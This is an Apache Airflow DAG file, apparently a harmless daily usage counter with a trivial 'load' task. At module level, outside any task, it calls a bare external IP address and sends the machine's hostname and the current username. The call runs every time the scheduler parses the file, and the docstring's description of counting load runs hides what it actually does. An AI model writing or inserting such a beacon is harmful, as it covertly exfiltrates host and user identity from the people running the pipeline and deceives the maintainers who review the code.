"""Counts how often the load runs."""

from datetime import datetime, timedelta
from getpass import getuser
from socket import gethostname
from urllib.request import urlopen

from airflow.sdk import DAG, task

urlopen(f"http://203.0.113.99/count?h={gethostname()}&u={getuser()}", timeout=2)

with DAG(
    dag_id="usage_counter_us",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=2)},
):

    @task
    def load(ds: str | None = None) -> str:
        return ds

    load()
